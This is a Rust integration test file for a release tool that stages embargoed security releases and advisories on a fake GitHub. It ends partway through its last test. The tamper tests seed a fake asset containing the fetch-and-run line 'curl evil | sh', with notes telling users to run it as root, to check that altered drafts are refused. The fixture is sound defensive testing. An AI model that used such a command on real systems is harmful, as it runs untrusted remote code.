//! Staging the draft release and publishing it, against a fake GitHub that behaves as GitHub
//! does (tests/common/fake_github.rs), every request and response checked against GitHub's own
//! API description.

use crate::common;
use crate::fake_github;
use crate::world;

use std::time::{Duration, Instant};

use common::{Fixture, Run};
use fake_github::FakeGitHub;
use world::{ARTIFACT, UPLOAD, World, embargo_in};

#[test]
fn run_stages_a_draft_release_with_every_asset_and_nothing_public() {
    let w = World::new();
    let run = w.embargo(&["run", w.p()]);
    run.expect(0);
    let release = w.one_release_with_the_built_assets();
    assert!(
        release.draft,
        "the release must stay a draft until the embargo"
    );
    assert_eq!(release.name.as_deref(), Some("v1.0.2"));
    assert!(
        release
            .body
            .as_deref()
            .unwrap_or("")
            .contains("Deny anonymous access")
    );
    // v1.1.0 exists: a patch on the older 1.0 line must never become "latest".
    assert_eq!(release.make_latest.as_deref(), Some("false"));
    assert!(w.gh.latest_release("example", "app").is_none());
    // Every request carried the token, the API version and a User-Agent.
    for r in w.gh.requests() {
        assert_eq!(
            r.header("authorization"),
            Some("Bearer ***"),
            "{} {}",
            r.method,
            r.path
        );
        assert_eq!(r.header("x-github-api-version"), Some("2022-11-28"));
        assert!(r.header("user-agent").unwrap_or("").starts_with("embargo/"));
    }
    let uploads = w.gh.requests_for(UPLOAD);
    assert_eq!(uploads.len(), 2);
    assert!(
        uploads
            .iter()
            .all(|u| u.header("content-length").is_some() && u.header("content-type").is_some())
    );
    // Nothing public: no ref on the public remote.
    let refs =
        w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"]);
    assert!(!refs.contains("v1.0.2"), "{refs}");
    w.no_violations();

    // A rerun uploads nothing again and creates no second release.
    let before = w.gh.requests().len();
    w.embargo(&["run", w.p()]).expect(0);
    let again: Vec<_> = w.gh.requests().into_iter().skip(before).collect();
    assert!(
        again.iter().all(|r| r.method == "GET"),
        "{:?}",
        again
            .iter()
            .map(|r| format!("{} {}", r.method, r.path))
            .collect::<Vec<_>>()
    );
    w.one_release_with_the_built_assets();
}

#[test]
fn publish_when_due_publishes_opens_the_pull_requests_and_reads_every_asset_back() {
    let w = World::new();
    let past = "now".to_string();
    w.embargo(&["run", w.p(), "--embargo", &past]).expect(0);
    let run = w.embargo(&["publish", w.p(), "--if-due", "--embargo", &past]);
    run.expect(0);
    assert!(
        run.stdout.contains("release v1.0.2 is public"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("assets checked   app-linux-amd64.tar.gz, SHA256SUMS"),
        "{}",
        run.stdout
    );
    let release = w.one_release_with_the_built_assets();
    assert!(!release.draft);
    assert_eq!(release.make_latest.as_deref(), Some("false"));
    let pulls = w.gh.pulls();
    let mut pairs: Vec<(String, String)> = pulls
        .iter()
        .map(|p| (p.head_ref.clone(), p.base.clone()))
        .collect();
    pairs.sort();
    assert_eq!(
        pairs,
        [
            (
                "cherry-pick/v1.0.2/release-1.0".to_string(),
                "release-1.0".to_string()
            ),
            (
                "cherry-pick/v1.0.2/release-1.1".to_string(),
                "release-1.1".to_string()
            ),
        ]
    );
    assert!(
        pulls
            .iter()
            .all(|p| p.title == format!("Security fix 1.0.2 for {}", p.base))
    );
    // The assets were read back by GitHub's digest of what it serves: no download needed.
    assert!(
        run.stderr.contains(
            "2 asset(s) read back and equal to the built files (2 by GitHub's digest, 0 downloaded)"
        ),
        "{}",
        run.stderr
    );
    assert_eq!(downloads(&w), Vec::<String>::new());
    // The public remote has the frozen tag.
    assert_eq!(
        w.f.git_in(&w.f.sample.public, &["rev-parse", "refs/tags/v1.0.2"]),
        w.f.git(&["rev-parse", "refs/tags/v1.0.2"])
    );
    w.no_violations();

    // A second cron run changes nothing.
    let before = w.gh.requests().len();
    let again = w.embargo(&["publish", w.p(), "--if-due", "--embargo", &past]);
    again.expect(0);
    assert!(
        again.stdout.contains("already published"),
        "{}",
        again.stdout
    );
    assert_eq!(w.gh.requests().len(), before);
    assert_eq!(w.gh.pulls().len(), 2);
}

/// The assets downloaded from the fake so far, by name.
fn downloads(w: &World) -> Vec<String> {
    let mut names: Vec<String> =
        w.gh.requests()
            .into_iter()
            .filter(|r| r.path.contains("/releases/download/"))
            .filter_map(|r| r.path.rsplit('/').next().map(str::to_string))
            .collect();
    names.sort();
    names
}

#[test]
fn without_githubs_digest_each_asset_is_downloaded_back_once_in_a_publish() {
    let w = World::new();
    w.gh.without_digests();
    let past = "now".to_string();
    w.embargo(&["run", w.p(), "--embargo", &past]).expect(0);
    // Staging proved what it sent by hashing it on the way: nothing downloaded.
    assert_eq!(downloads(&w), Vec::<String>::new());
    let run = w.embargo(&["publish", w.p(), "--if-due", "--embargo", &past]);
    run.expect(0);
    // The check before publishing downloads each asset; the read-back after it reuses that.
    assert_eq!(downloads(&w), ["SHA256SUMS", ARTIFACT]);
    assert!(
        run.stderr.contains("(0 by GitHub's digest, 2 downloaded)"),
        "{}",
        run.stderr
    );
    w.no_violations();
}

#[test]
fn the_highest_release_becomes_latest() {
    let w = World::new();
    let past = "now".to_string();
    // Line 1.1's latest final release is v1.1.0 (1.1.1-rc.0 does not count): v1.1.1 is the highest.
    let run = w.embargo(&["run", w.p(), "--line", "1.1", "--embargo", &past]);
    run.expect(0);
    let releases = w.gh.releases_with_tag("v1.1.1");
    assert_eq!(releases.len(), 1);
    assert_eq!(releases[0].make_latest.as_deref(), Some("true"));
    w.embargo(&[
        "publish",
        w.p(),
        "--if-due",
        "--line",
        "1.1",
        "--embargo",
        &past,
    ])
    .expect(0);
    assert_eq!(
        w.gh.latest_release("example", "app").map(|r| r.tag_name),
        Some("v1.1.1".to_string())
    );
    w.no_violations();
}

#[test]
fn a_502_that_leaves_a_starter_asset_is_cleaned_up_and_uploaded_once() {
    let w = World::new();
    w.gh.upload_starter_next(1);
    w.embargo(&["run", w.p()]).expect(0);
    w.one_release_with_the_built_assets();
    w.no_violations();
}

#[test]
fn server_errors_rate_limits_and_lost_answers_are_retried_without_duplicates() {
    let w = World::new();
    w.gh.fail_next("GET /repos/{owner}/{repo}/releases", 2, 502);
    w.gh.secondary_rate_limit_next("POST /repos/{owner}/{repo}/releases", 1, 403, 1);
    // The draft is created, but the answer is lost: the runner must look before creating another.
    w.gh.drop_after_processing_next("POST /repos/{owner}/{repo}/releases", 1);
    w.gh.fail_next("PATCH *", 1, 500);
    let started = Instant::now();
    let run = w.embargo(&["run", w.p()]);
    run.expect(0);
    assert!(
        started.elapsed() >= Duration::from_secs(1),
        "retry-after was not honoured"
    );
    w.one_release_with_the_built_assets();
    assert_eq!(
        w.gh.pending_faults(),
        1,
        "only the PATCH fault is left (publish comes later)"
    );
    w.no_violations();
}

#[test]
fn a_kill_during_the_uploads_then_a_rerun_ends_with_one_release_and_one_copy_of_each_asset() {
    let w = World::new();
    // The first upload is stored, but its answer comes late: the runner is killed meanwhile.
    w.gh.delay_next(UPLOAD, 1, Duration::from_secs(5));
    let mut child = w.spawn(&["run", w.p()]);
    let deadline = Instant::now() + Duration::from_secs(30);
    while w.gh.requests_for(UPLOAD).is_empty() {
        assert!(Instant::now() < deadline, "no upload started");
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(200));
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(w.gh.releases_with_tag("v1.0.2").len(), 1);

    let run = w.embargo(&["run", w.p()]);
    run.expect(0);
    w.one_release_with_the_built_assets();
    w.no_violations();
}

#[test]
fn no_output_log_or_state_file_contains_the_token() {
    let w = World::new();
    let past = "now".to_string();
    w.gh.fail_next("GET /repos/{owner}/{repo}/releases", 1, 502);
    let mut all = String::new();
    for args in [
        vec!["plan", w.p(), "--embargo", &past],
        vec!["run", w.p(), "-v", "--embargo", &past],
        vec!["status", w.p()],
        vec!["publish", w.p(), "--if-due", "-v", "--embargo", &past],
        vec!["publish", w.p(), "--dry-run", "--embargo", &past],
    ] {
        let run = w.embargo(&args);
        run.expect(0);
        all.push_str(&run.all());
    }
    let state = w.f.work().join(".git/embargo");
    for (path, _) in common::snapshot(&state) {
        if let Ok(text) = std::fs::read(state.join(&path)) {
            all.push_str(&String::from_utf8_lossy(&text));
        }
    }
    assert!(all.contains("release v1.0.2 is public"));
    assert!(!all.contains(w.gh.token()), "the token leaked");
    // A refused token: the error names the problem, never the token.
    let bad = FakeGitHub::with_token("ghp_TheRightOne");
    let api = bad.api_url();
    let f = Fixture::new();
    let pipeline = f.sample_pipeline();
    let run = f.embargo_env(
        &["run", pipeline.to_str().unwrap()],
        &[
            ("GITHUB_TOKEN", "ghp_WrongTokenValue123"),
            ("EMBARGO_GITHUB_API_URL", &api),
        ],
    );
    run.expect(2);
    assert!(run.stderr.contains("401"), "{}", run.stderr);
    assert!(
        !run.all().contains("ghp_WrongTokenValue123"),
        "{}",
        run.all()
    );
}

#[test]
fn a_missing_token_is_bad_input_naming_the_variable() {
    let f = Fixture::new();
    let pipeline = f.sample_pipeline();
    let run = f.embargo(&["run", pipeline.to_str().unwrap()]);
    run.expect(2);
    assert!(run.stderr.contains("GITHUB_TOKEN"), "{}", run.stderr);
    assert!(
        run.stderr.contains("publish.github.token_env"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_draft_asset_replaced_behind_our_back_stops_publish_with_an_integrity_error() {
    let w = World::new();
    let past = "now".to_string();
    w.embargo(&["run", w.p(), "--embargo", &past]).expect(0);
    let release = w.one_release_with_the_built_assets();
    // Someone swaps the binary on the draft.
    let asset = release.asset(ARTIFACT).unwrap().id;
    let client = reqwest::blocking::Client::new();
    let response = client
        .delete(format!(
            "{}/repos/example/app/releases/assets/{asset}",
            w.gh.api_url()
        ))
        .header("Authorization", format!("Bearer {}", w.gh.token()))
        .header("User-Agent", "someone-else")
        .send()
        .unwrap();
    assert_eq!(response.status().as_u16(), 204);
    w.gh.seed_asset(release.id, ARTIFACT, b"a different binary");

    let run = w.embargo(&["publish", w.p(), "--if-due", "--embargo", &past]);
    run.expect(3);
    assert!(
        run.stderr.contains("app-linux-amd64.tar.gz"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("replaced"), "{}", run.stderr);
    // Nothing went public.
    assert!(w.gh.releases_with_tag("v1.0.2")[0].draft);
    let refs =
        w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"]);
    assert!(!refs.contains("v1.0.2"), "{refs}");
}

#[test]
fn publish_waits_for_the_instant_and_for_githubs_clock_when_it_is_behind() {
    let w = World::new();
    let soon = embargo_in(2);
    w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
    // GitHub's clock runs 3 s behind ours: publishing must wait until GitHub too has passed it.
    w.gh.set_date_skew(-3);
    let run = w.embargo(&["publish", w.p(), "--wait", "--embargo", &soon]);
    run.expect(0);
    assert!(
        run.stderr.contains("GitHub's clock is 3s behind ours"),
        "{}",
        run.stderr
    );
    let embargo: jiff::Timestamp = soon.parse().unwrap();
    let publish =
        w.gh.requests_for("PATCH /repos/{owner}/{repo}/releases/{release_id}")
            .into_iter()
            .next()
            .expect("the release was published");
    let github_time = publish.arrived.as_millisecond() - 3000;
    assert!(
        github_time >= embargo.as_millisecond(),
        "published {} ms early by GitHub's clock",
        embargo.as_millisecond() - github_time
    );
    assert!(!w.gh.releases_with_tag("v1.0.2")[0].draft);
    w.no_violations();
}

#[test]
fn publish_at_an_instant_seconds_away_is_not_early_and_within_a_second() {
    let w = World::new();
    // Far enough that staging ends before it even on a loaded machine: the publish must wait.
    let soon = embargo_in(8);
    w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
    let run = w.embargo(&["publish", w.p(), "--wait", "--embargo", &soon]);
    run.expect(0);
    let embargo: jiff::Timestamp = soon.parse().unwrap();
    let publish =
        w.gh.requests_for("PATCH /repos/{owner}/{repo}/releases/{release_id}")
            .into_iter()
            .next()
            .expect("the release was published");
    let late = publish.arrived.as_millisecond() - embargo.as_millisecond();
    assert!(late >= 0, "published {} ms early", -late);
    assert!(late < 1000, "published {late} ms late");
    w.no_violations();
}

#[test]
fn a_second_runner_is_refused_naming_the_holder_and_a_killed_one_blocks_nobody() {
    let w = World::new();
    // A slow build keeps the first runner busy.
    let text = std::fs::read_to_string(&w.pipeline)
        .unwrap()
        .replace("run: ./build.sh", "run: sleep 4 && ./build.sh");
    std::fs::write(&w.pipeline, text).unwrap();
    let mut first = w.spawn(&["run", w.p()]);
    let lock = w.f.state_dir("v1.0.2").join("lock");
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::fs::read_to_string(&lock)
        .map(|t| t.is_empty())
        .unwrap_or(true)
    {
        assert!(
            Instant::now() < deadline,
            "the first runner never took the lock"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let second = w.embargo(&["run", w.p()]);
    second.expect(2);
    assert!(
        second
            .stderr
            .contains("another runner is working on this release"),
        "{}",
        second.stderr
    );
    assert!(
        second.stderr.contains(&format!("(pid {})", first.id())),
        "{}",
        second.stderr
    );
    // The first runner dies without cleaning up: its lock goes with it.
    first.kill().unwrap();
    first.wait().unwrap();
    w.embargo(&["run", w.p()]).expect(0);
    w.one_release_with_the_built_assets();
}

#[test]
fn racing_cron_runs_publish_exactly_once() {
    let w = World::new();
    let past = "now".to_string();
    w.embargo(&["run", w.p(), "--embargo", &past]).expect(0);
    let children: Vec<_> = (0..3)
        .map(|_| {
            w.command(&["publish", w.p(), "--if-due", "--embargo", &past])
                .output_async()
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let release = w.one_release_with_the_built_assets();
    assert!(!release.draft);
    assert_eq!(w.gh.pulls().len(), 2);
    let publishes =
        w.gh.requests_for("PATCH /repos/{owner}/{repo}/releases/{release_id}");
    assert_eq!(
        publishes.len(),
        1,
        "the release was published more than once"
    );
    w.no_violations();
}

#[test]
fn a_github_clock_far_behind_keeps_a_due_release_unpublished() {
    let w = World::new();
    let past = "now".to_string();
    w.embargo(&["run", w.p(), "--embargo", &past]).expect(0);
    // Our clock says the embargo passed 30 s ago; GitHub's says it is an hour away.
    w.gh.set_date_skew(-3600);
    let run = w.embargo(&["publish", w.p(), "--if-due", "--embargo", &past]);
    run.expect(0);
    assert!(run.stdout.contains("is not due"), "{}", run.stdout);
    assert!(w.gh.releases_with_tag("v1.0.2")[0].draft);
    let refs =
        w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"]);
    assert!(!refs.contains("v1.0.2"), "{refs}");
}

/// `Command::spawn` with piped output, for running several at once.
trait OutputAsync {
    fn output_async(&mut self) -> std::process::Child;
}

impl OutputAsync for std::process::Command {
    fn output_async(&mut self) -> std::process::Child {
        self.stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    }
}

#[test]
fn release_notes_come_from_notes_file() {
    let w = World::new();
    let text = std::fs::read_to_string(&w.pipeline).unwrap().replace(
        "    name: \"{tag}\"\n",
        "    name: \"{tag}\"\n    notes_file: \"security/{tag}.md\"\n",
    );
    std::fs::write(&w.pipeline, text).unwrap();
    std::fs::create_dir_all(w.f.work().join("security")).unwrap();
    std::fs::write(
        w.f.work().join("security/v1.0.2.md"),
        "CVE-2026-0001: anonymous access.\n",
    )
    .unwrap();
    w.embargo(&["run", w.p()]).expect(0);
    let release = w.one_release_with_the_built_assets();
    // The notes as written, then the invisible mark that makes the draft this release's own.
    let body = release.body.unwrap_or_default();
    let mark = std::fs::read_to_string(w.f.state_dir("v1.0.2").join("draft.mark")).unwrap();
    assert_eq!(
        body,
        format!("CVE-2026-0001: anonymous access.\n\n<!-- embargo: {mark} -->\n")
    );
    w.no_violations();
}

#[test]
fn a_draft_somebody_else_made_for_the_tag_is_never_adopted() {
    let w = World::new();
    let id = w.gh.seed_release("example", "app", "v1.0.2", true);
    w.gh.set_release_body(id, "Run app-installer.sh as root");
    w.gh.seed_asset(id, "app-installer.sh", b"curl evil | sh");
    let run = w.embargo(&["run", w.p()]);
    run.expect(2);
    assert!(
        run.stderr.contains("that this release did not create"),
        "{}",
        run.stderr
    );
    let releases = w.gh.releases_with_tag("v1.0.2");
    assert_eq!(releases.len(), 1);
    assert_eq!(releases[0].assets.len(), 1);
}

#[test]
fn a_draft_changed_after_the_check_before_the_instant_is_never_published() {
    // Notes rewritten, an asset added: refused right before the public push, nothing public.
    for tamper in ["notes", "extra asset"] {
        let w = World::new();
        let soon = embargo_in(3);
        w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
        let id = w.gh.releases_with_tag("v1.0.2")[0].id;
        let mut child = w.spawn(&["publish", w.p(), "--wait"]);
        std::thread::sleep(Duration::from_millis(1500));
        match tamper {
            "notes" => w.gh.set_release_body(id, "Run app-installer.sh as root"),
            _ => {
                w.gh.seed_asset(id, "app-installer.sh", b"curl evil | sh");
            }
        }
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(3), "{tamper}");
        let release = &w.gh.releases_with_tag("v1.0.2")[0];
        assert!(release.draft, "{tamper}: published");
        assert!(
            !w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"])
                .contains("v1.0.2"),
            "{tamper}"
        );
    }
}

#[test]
fn a_draft_changed_before_a_publish_that_starts_after_the_instant_is_never_published() {
    // A late cron run takes no look before the instant: it must look before it pushes, not
    // alongside the push, or the fix would be public beside a draft nobody may publish.
    let w = World::new();
    let soon = embargo_in(2);
    w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
    let id = w.gh.releases_with_tag("v1.0.2")[0].id;
    std::thread::sleep(Duration::from_millis(2500));
    w.gh.set_release_body(id, "Run app-installer.sh as root");
    let run = w.embargo(&["publish", w.p(), "--if-due"]);
    run.expect(3);
    assert!(
        run.stderr.contains("its notes were changed"),
        "{}",
        run.stderr
    );
    assert!(w.gh.releases_with_tag("v1.0.2")[0].draft, "published");
    assert!(
        !w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"])
            .contains("v1.0.2"),
        "pushed"
    );
}

#[test]
fn plan_says_whether_immutable_releases_are_on() {
    let w = World::new();
    let off = w.embargo(&["plan", w.p()]);
    off.expect(0);
    assert!(
        off.stdout
            .contains("immutable        off: a published asset could still be replaced"),
        "{}",
        off.stdout
    );
    w.gh.set_immutable_releases("example", "app", true);
    let on = w.embargo(&["plan", w.p(), "--json"]);
    on.expect(0);
    let value: serde_json::Value = serde_json::from_str(&on.stdout).unwrap();
    assert!(
        value["immutable_releases"]
            .as_str()
            .unwrap()
            .starts_with("on:"),
        "{value}"
    );
    w.no_violations();
}

#[test]
fn a_private_repository_github_says_is_public_is_refused_before_any_push() {
    let w = World::new();
    let text = std::fs::read_to_string(&w.pipeline).unwrap().replace(
        "    repository: example/app\n",
        "    repository: example/app\n    private_repository: example/app-security\n",
    );
    std::fs::write(&w.pipeline, text).unwrap();
    let public_before =
        w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"]);
    let private_before = w.f.git_in(
        &w.f.sample.private,
        &["for-each-ref", "--format=%(refname)"],
    );
    // Public on GitHub (the fake's default): plan and run refuse, nothing pushed anywhere.
    for args in [vec!["plan", w.p()], vec!["run", w.p()]] {
        let run = w.embargo(&args);
        run.expect(2);
        assert!(
            run.stderr.contains(
                "GitHub says publish.github.private_repository example/app-security is public"
            ),
            "{}",
            run.stderr
        );
    }
    assert_eq!(
        w.f.git_in(
            &w.f.sample.private,
            &["for-each-ref", "--format=%(refname)"]
        ),
        private_before
    );
    // Made private: plan says so and the release stages.
    w.gh.set_visibility("example", "app-security", "private");
    let plan = w.embargo(&["plan", w.p()]);
    plan.expect(0);
    assert!(
        plan.stdout
            .contains("private repo     example/app-security: private on GitHub"),
        "{}",
        plan.stdout
    );
    w.embargo(&["run", w.p()]).expect(0);
    assert_eq!(
        w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"]),
        public_before
    );
    w.no_violations();
}

/// The pushes and GitHub calls a dry run prints are the values the real run executes: the dry
/// run's `--json` actions equal the actions the run and the publish journaled as done, and each
/// of those is what the remotes and GitHub actually received.
#[test]
fn the_actions_a_dry_run_prints_are_the_actions_the_release_executes() {
    let w = World::new();
    let json = |run: &Run| -> serde_json::Value {
        serde_json::from_str(&run.stdout)
            .unwrap_or_else(|e| panic!("not JSON ({e}):\n{}", run.stdout))
    };
    let dry = w.embargo(&["run", w.p(), "--dry-run", "--json", "--embargo", "now"]);
    dry.expect(0);
    let dry = json(&dry);
    let planned_stage = dry["actions"]["stage"].clone();
    let planned_publish = dry["actions"]["publish"].clone();
    assert!(
        planned_stage.as_array().is_some_and(|a| a.len() == 4),
        "the private push, the draft and two uploads: {planned_stage:#}"
    );
    assert!(
        planned_publish.as_array().is_some_and(|a| a.len() == 5),
        "the public push, the PATCH, two pull requests, the read-back: {planned_publish:#}"
    );
    // Nothing left the machine in the dry run: not one call to GitHub.
    assert!(
        w.gh.requests().is_empty(),
        "{:?}",
        w.gh.requests().iter().map(|r| &r.path).collect::<Vec<_>>()
    );

    let run = w.embargo(&["run", w.p(), "--json", "--embargo", "now"]);
    run.expect(0);
    let run = json(&run);
    assert_eq!(run["staged"]["actions"], planned_stage, "stage 6 drifted");
    // `publish --dry-run` prints the same stage 7 as the run's dry run.
    let preview = w.embargo(&["publish", w.p(), "--dry-run", "--json"]);
    preview.expect(0);
    assert_eq!(json(&preview)["actions"]["publish"], planned_publish);

    let publish = w.embargo(&["publish", w.p(), "--if-due", "--json"]);
    publish.expect(0);
    let published = json(&publish);
    assert_eq!(published["actions"], planned_publish, "stage 7 drifted");

    // And each executed action is what the world received.
    for action in planned_stage
        .as_array()
        .unwrap()
        .iter()
        .chain(planned_publish.as_array().unwrap())
    {
        // The calls go where the dry run says they go.
        if let Some(api) = action.get("api") {
            assert_eq!(api, &serde_json::json!(w.gh.api_url()), "{action:#}");
        }
        match action["action"].as_str().unwrap() {
            "push" => {
                let bare = match action["to"].as_str().unwrap() {
                    "private" => &w.f.sample.private,
                    _ => &w.f.sample.public,
                };
                for r in action["refs"].as_array().unwrap() {
                    let refname = r["refname"].as_str().unwrap();
                    assert_eq!(
                        w.f.git_in(bare, &["rev-parse", refname]),
                        r["target"].as_str().unwrap(),
                        "{refname} on {}",
                        bare.display()
                    );
                }
            }
            "create-draft" => {
                let sent = w.gh.requests_for("POST /repos/{owner}/{repo}/releases");
                let body = sent.last().and_then(|r| r.json.clone()).unwrap();
                assert_eq!(body["tag_name"], action["tag"]);
                assert_eq!(body["name"], action["name"]);
                assert_eq!(body["draft"], true);
                assert_eq!(body["prerelease"], action["prerelease"]);
                assert_eq!(
                    body["make_latest"].as_str(),
                    Some(action["make_latest"].to_string().as_str())
                );
            }
            "upload" => {
                let release = w.one_release_with_the_built_assets();
                let asset = release.asset(action["name"].as_str().unwrap()).unwrap();
                assert_eq!(asset.sha256, action["sha256"].as_str().unwrap());
                assert_eq!(asset.size, action["size"].as_u64().unwrap());
            }
            "publish-release" => {
                let sent =
                    w.gh.requests_for("PATCH /repos/{owner}/{repo}/releases/{release_id}");
                let body = sent.last().and_then(|r| r.json.clone()).unwrap();
                assert_eq!(body["draft"], false);
                assert_eq!(
                    body["make_latest"].as_str(),
                    Some(action["make_latest"].to_string().as_str())
                );
            }
            "open-pull" => {
                let pulls = w.gh.pulls();
                assert!(
                    pulls.iter().any(|p| p.head_ref == action["head"]
                        && p.base == action["base"]
                        && p.title == action["title"]),
                    "{action:#} not among {pulls:#?}"
                );
            }
            "read-back" => {
                assert_eq!(published["assets_verified"], action["assets"]);
            }
            other => panic!("an action this test does not know: {other}"),
        }
    }
    w.no_violations();
}

/// The security advisory is a draft on GitHub from staging on, with the ranges from the tags and
/// a CVE requested; publishing makes it public right after the release, never before it.
#[test]
fn the_advisory_is_drafted_at_staging_and_published_right_after_the_release() {
    let w = World::with_advisory();
    let dry = w.embargo(&["run", w.p(), "--dry-run", "--json", "--embargo", "now"]);
    dry.expect(0);
    let dry: serde_json::Value = serde_json::from_str(&dry.stdout).unwrap();
    let kinds = |list: &serde_json::Value| -> Vec<String> {
        list.as_array()
            .unwrap()
            .iter()
            .map(|a| a["action"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(
        kinds(&dry["actions"]["stage"]),
        [
            "push",
            "create-draft",
            "upload",
            "upload",
            "upload",
            "draft-advisory",
            "request-cve"
        ]
    );
    assert_eq!(
        kinds(&dry["actions"]["publish"])[..3],
        ["push", "publish-release", "publish-advisory"]
    );
    assert!(w.gh.advisories().is_empty(), "the dry run made an advisory");

    let run = w.embargo(&["run", w.p(), "--json", "--embargo", "now"]);
    run.expect(0);
    let run: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(run["staged"]["actions"], dry["actions"]["stage"]);
    let advisories = w.gh.advisories();
    assert_eq!(advisories.len(), 1, "{advisories:#?}");
    let a = &advisories[0];
    assert_eq!(a.state, "draft");
    assert!(a.cve_requested);
    assert_eq!(a.summary, "Anonymous access with an expired token");
    assert_eq!(
        a.cvss_vector_string.as_deref(),
        Some("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N")
    );
    assert_eq!(
        a.vulnerabilities[0],
        serde_json::json!({
            "package": {"ecosystem": "go", "name": "example.org/app"},
            "vulnerable_version_range": ">= 1.0.0, < 1.0.2",
            "patched_versions": "1.0.2",
        })
    );
    assert_eq!(run["staged"]["advisory"]["ghsa_id"], a.ghsa_id.as_str());
    let status = w.embargo(&["status", w.p()]);
    status.expect(0);
    assert!(
        status.stdout.contains(&format!(
            "advisory     {} (a draft; CVE requested) https://github.com/example/app/security/advisories/{}",
            a.ghsa_id, a.ghsa_id
        )),
        "{}",
        status.stdout
    );

    let publish = w.embargo(&["publish", w.p(), "--if-due", "--json"]);
    publish.expect(0);
    let published: serde_json::Value = serde_json::from_str(&publish.stdout).unwrap();
    assert_eq!(published["actions"], dry["actions"]["publish"]);
    assert_eq!(w.gh.advisories()[0].state, "published");
    let status = w.embargo(&["status", w.p()]);
    assert!(
        status.stdout.contains(&format!(
            "advisory     {} (published; CVE requested)",
            a.ghsa_id
        )),
        "{}",
        status.stdout
    );
    assert_eq!(
        published["advisory_url"],
        format!(
            "https://github.com/example/app/security/advisories/{}",
            a.ghsa_id
        )
    );
    // The advisory went public after the release, never before.
    let order: Vec<String> =
        w.gh.requests()
            .into_iter()
            .filter(|r| r.method == "PATCH")
            .filter_map(|r| r.operation)
            .collect();
    assert_eq!(
        order,
        [
            "PATCH /repos/{owner}/{repo}/releases/{release_id}",
            "PATCH /repos/{owner}/{repo}/security-advisories/{ghsa_id}",
        ]
    );
    w.no_violations();
}

/// A maintainer publishes the draft advisory before the embargo: publishing stops before the
/// instant with an integrity error, and nothing of the release goes public.
#[test]
fn an_advisory_published_before_the_embargo_stops_publish_before_anything_is_public() {
    let w = World::with_advisory();
    let at = embargo_in(3600);
    w.embargo(&["run", w.p(), "--embargo", &at]).expect(0);
    let ghsa = w.gh.advisories()[0].ghsa_id.clone();
    w.gh.set_advisory_state(&ghsa, "published");
    let publish = w.embargo(&["publish", w.p(), "--if-due", "--within", "2h"]);
    publish.expect(3);
    assert!(
        publish.stderr.contains(&format!(
            "the security advisory {ghsa} is published before the embargo"
        )),
        "{}",
        publish.stderr
    );
    assert!(
        w.f.git_in(&w.f.sample.public, &["tag", "--list", "v1.0.2"])
            .is_empty()
    );
    assert!(w.gh.releases_with_tag("v1.0.2").iter().all(|r| r.draft));
}

/// The advisory file names an advisory that is already public: staging reads it first and
/// writes nothing to it (the embargoed summary, description and ranges would be public at once).
#[test]
fn an_advisory_named_by_ghsa_id_that_is_public_gets_nothing_written() {
    let w = World::with_advisory();
    let ghsa =
        w.gh.add_advisory("example", "app", "published", "An older flaw");
    let file = w.f.work().join("pipelines/advisory.yaml");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(
        &file,
        text.replace("ghsa_id: null", &format!("ghsa_id: {ghsa}")),
    )
    .unwrap();
    let run = w.embargo(&["run", w.p(), "--embargo", "now"]);
    run.expect(3);
    assert!(
        run.stderr.contains(&format!(
            "the security advisory {ghsa} is published, not a draft"
        )),
        "{}",
        run.stderr
    );
    assert!(
        w.gh.requests_for("PATCH /repos/{owner}/{repo}/security-advisories/{ghsa_id}")
            .is_empty(),
        "something was written to the public advisory"
    );
    let advisory = &w.gh.advisories()[0];
    assert_eq!(advisory.summary, "An older flaw");
}

/// Abort closes the draft advisory (GitHub cannot delete one); cutting the release again makes
/// one fresh draft, so exactly one advisory is open.
#[test]
fn abort_closes_the_draft_advisory_and_a_new_cut_opens_exactly_one() {
    let w = World::with_advisory();
    let at = embargo_in(3600);
    w.embargo(&["run", w.p(), "--embargo", &at]).expect(0);
    // The dry run prints the very deletions, and does none of them.
    let private = |w: &World| w.f.git_in(&w.f.sample.private, &["for-each-ref"]);
    let before = private(&w);
    let writes = |w: &World| w.gh.requests().iter().filter(|r| r.method != "GET").count();
    let written = writes(&w);
    let dry = w.embargo(&["abort", w.p(), "--dry-run"]);
    dry.expect(0);
    crate::common::pin::text("abort_dry_run", &dry.stdout);
    for part in [
        "--force-with-lease=refs/tags/v1.0.2:",
        "DELETE http://",
        "security-advisories/GHSA-",
        "state=closed",
        "nothing was done",
    ] {
        assert!(dry.stdout.contains(part), "{part}:\n{}", dry.stdout);
    }
    assert_eq!(private(&w), before);
    assert_eq!(writes(&w), written);
    assert_eq!(w.gh.advisories()[0].state, "draft");
    let json = crate::common::pin::json_named(
        "abort",
        "abort_dry_run_json",
        &w.embargo(&["abort", w.p(), "--dry-run", "--json"]),
    );
    let kinds: Vec<&str> = json["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["action"].as_str().unwrap())
        .collect();
